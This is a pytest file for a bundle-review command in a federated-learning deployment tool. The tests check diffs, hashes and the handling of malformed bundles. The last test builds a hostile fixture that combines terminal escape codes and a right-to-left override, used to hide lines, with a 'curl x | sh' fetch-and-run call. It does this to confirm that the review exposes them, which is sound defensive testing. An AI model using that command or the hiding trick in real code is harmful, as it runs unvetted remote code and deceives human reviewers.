"""``client.daemon review``: what a bundle changes against the installed fedquorum, and its hash.

The bundles are this checkout's app with a module added, a file changed, a file left out and a run
setting changed; the review must name each, show the diff, and print the very hash ``approve``
records and ``flwr build`` produces (the launcher compares that hash before running the app).
"""

from __future__ import annotations

import re
import subprocess
import zipfile
from pathlib import Path

import pytest
from deploy_helpers import BIN, ROOT
from flwr.cli.build import build_fab_from_files

from client.approval import app_files, approved_hashes, bundle_of, fab_sha256
from client.daemon import main as daemon
from client.review import file_diff
from server.flower_cli import flower_env

ADDED = "client/site_model.py"
CHANGED = "client/app.py"
REMOVED = "privacy/__init__.py"
ADDED_CODE = b'"""A model the ML engineer added."""\n\nWIDTH = 64\n'
CHANGE = b"\n# the engineer's change, for the reviewer to see\n"


def engineers_files() -> dict[str, bytes]:
    """The installed app's bundle files, as an ML engineer changed them."""
    files = app_files(bundle_of(ROOT))
    files[ADDED] = ADDED_CODE
    files[CHANGED] += CHANGE
    del files[REMOVED]
    pyproject = files["pyproject.toml"].decode()
    assert "num-rounds = 3\n" in pyproject
    files["pyproject.toml"] = pyproject.replace(
        "num-rounds = 3\n", 'num-rounds = 7\nmodel-class = "client.site_model.WIDTH"\n'
    ).encode()
    return files


def reviewed(app: Path, capsys) -> tuple[str, str]:
    """The review's text and the hash it shows."""
    assert daemon(["review", str(app)]) == 0
    out = capsys.readouterr().out
    (digest,) = re.findall(r"^SHA-256: ([0-9a-f]{64})$", out, re.MULTILINE)
    return out, digest


def approved(app: Path, state: Path) -> str:
    state.mkdir(mode=0o700)
    assert daemon(["approve", str(app), "--state-dir", str(state)]) == 0
    (digest,) = approved_hashes(state)
    return digest


def test_review_names_what_the_bundle_adds_changes_and_drops_with_the_hash_approve_records(
    tmp_path: Path, capsys
) -> None:
    app = tmp_path / "app.fab"
    app.write_bytes(build_fab_from_files(engineers_files())[0])
    out, digest = reviewed(app, capsys)

    assert f"Files added (1): {ADDED}\n" in out
    assert f"Files changed (2): {CHANGED}, pyproject.toml\n" in out
    assert f"Files removed (1, installed but not in the bundle): {REMOVED}\n" in out
    assert f'+++ bundle/{ADDED}\n@@ -0,0 +1,3 @@\n+"""A model the ML engineer added."""\n' in out
    assert f"--- installed/{CHANGED}\n+++ bundle/{CHANGED}\n" in out
    assert "+# the engineer's change, for the reviewer to see\n" in out
    assert "  num-rounds = 7   (installed: 3)\n" in out
    assert "  model-class = 'client.site_model.WIDTH'   (new: the installed app has no such setting)" in out
    assert f"  model-class = 'client.site_model.WIDTH': code from {ADDED}, added by this bundle\n" in out
    assert "clientapp: 'client.app:app' (same as installed)" in out
    assert "  model = 'mlp' (a model by name, built by the bundle's models/registry.py)\n" in out

    assert digest == fab_sha256(app.read_bytes()) == approved(app, tmp_path / "state")


def test_a_folder_is_reviewed_as_flwr_build_bundles_it_so_the_hashes_match(tmp_path: Path, capsys) -> None:
    folder = tmp_path / "engineer-app"
    for name, data in engineers_files().items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    out_dir = tmp_path / "built"
    out_dir.mkdir()
    built = subprocess.run(
        [str(BIN / "flwr"), "build", "--app", str(folder)],
        cwd=out_dir,
        env=flower_env(tmp_path / "flwr-home"),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert built.returncode == 0, built.stdout + built.stderr
    (fab,) = out_dir.glob("*.fab")

    folder_review, folder_digest = reviewed(folder, capsys)
    _, fab_digest = reviewed(fab, capsys)
    assert folder_digest == fab_digest == fab_sha256(fab.read_bytes()) == approved(folder, tmp_path / "state")
    assert f"Files added (1): {ADDED}\n" in folder_review


def test_the_installed_code_itself_shows_no_difference(capsys) -> None:
    out, digest = reviewed(ROOT, capsys)
    assert "Files added (0): none\nFiles changed (0): none\nFiles removed (0, " in out
    assert "No file differs from the installed code." in out
    assert digest == fab_sha256(bundle_of(ROOT))


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (None, "does not exist (expected a .fab file or an app folder)"),
        (
            b"not a zip at all",
            "is not a readable app bundle (a .fab is a zip archive): File is not a zip file",
        ),
    ],
)
def test_a_missing_or_corrupt_bundle_is_an_error_naming_it(
    tmp_path: Path, capsys, content: bytes | None, expected: str
) -> None:
    app = tmp_path / "app.fab"
    if content is not None:
        app.write_bytes(content)
    assert daemon(["review", str(app)]) == 2
    assert capsys.readouterr().err == f"error: {app} {expected}\n"


def hand_made_fab(path: Path, pyproject: bytes) -> Path:
    """A zip no builder checked: the installed app's files with this ``pyproject.toml``."""
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in {**app_files(bundle_of(ROOT)), "pyproject.toml": pyproject}.items():
            archive.writestr(name, data)
    return path


def test_a_pyproject_that_is_not_toml_is_an_error_naming_it(tmp_path: Path, capsys) -> None:
    app = hand_made_fab(tmp_path / "app.fab", b"[tool.flwr.app\n")
    assert daemon(["review", str(app)]) == 2
    assert capsys.readouterr().err.startswith(f"error: {app}: pyproject.toml cannot be read as TOML: ")


def test_a_pyproject_of_the_wrong_shape_is_reviewed_as_declaring_nothing(tmp_path: Path, capsys) -> None:
    app = hand_made_fab(tmp_path / "app.fab", b'[tool]\nflwr = "not a table"\n')
    out, _ = reviewed(app, capsys)
    assert "clientapp: None (CHANGED: the installed app starts 'client.app:app')" in out
    assert "num-rounds: no longer declared   (installed: 3)" in out


def test_a_bundle_with_a_damaged_file_is_an_error_naming_the_file(tmp_path: Path, capsys) -> None:
    fab = bytearray(build_fab_from_files(engineers_files())[0])
    start = fab.index(b"pyproject.toml") + 200  # inside its compressed bytes
    fab[start : start + 50] = bytes(50)
    app = tmp_path / "app.fab"
    app.write_bytes(bytes(fab))
    assert daemon(["review", str(app)]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"error: {app} is not a readable app bundle (a .fab is a zip archive): "), err


def test_a_bundle_that_would_unpack_beyond_the_cap_is_refused_before_it_is_read(
    tmp_path: Path, capsys, monkeypatch
) -> None:
    import client.review

    files = engineers_files()
    app = tmp_path / "app.fab"
    app.write_bytes(build_fab_from_files(files)[0])
    with zipfile.ZipFile(app) as archive:  # the app's files and Flower's manifest
        unpacked = sum(info.file_size for info in archive.infolist())
    monkeypatch.setattr(client.review, "MAX_UNPACKED_BYTES", unpacked - 1)
    assert daemon(["review", str(app)]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"error: {app} would unpack to "), err
    assert f"more than the {unpacked - 1} a review reads" in err


def test_a_huge_diff_is_cut_with_a_note_and_a_binary_file_only_named() -> None:
    old = b"".join(b"line %d\n" % i for i in range(100))
    new = b"".join(b"changed %d\n" % i for i in range(100))
    diff = file_diff("models/big.py", old, new, max_lines=20)
    assert len(diff) == 21 and diff[:2] == ["--- installed/models/big.py", "+++ bundle/models/big.py"]
    assert diff[-1] == "... diff cut here: 183 more line(s); unzip the bundle to read all"
    assert file_diff("models/weights.bin", None, b"\x00\xff\xfe") == [
        "models/weights.bin: binary file (new, 3 bytes); not shown"
    ]
    assert file_diff("models/weights.bin", b"\x00", b"\xff\xfe") == [
        "models/weights.bin: binary file (changed, 1 -> 2 bytes); not shown"
    ]


def test_control_characters_in_a_bundle_cannot_hide_a_line_from_the_reviewer(tmp_path: Path, capsys) -> None:
    files = engineers_files()
    files[ADDED] = 'import os\x1b[2K\rX = 1  # \u202eevil\u202c\nos.system("curl x | sh")\n'.encode()
    app = tmp_path / "app.fab"
    app.write_bytes(build_fab_from_files(files)[0])
    out, _ = reviewed(app, capsys)
    assert "\x1b" not in out and "\r" not in out and "\u202e" not in out
    assert "+import os\\u001b[2K\\u000d\n+X = 1  # \\u202eevil\\u202c\n+os.system(" in out
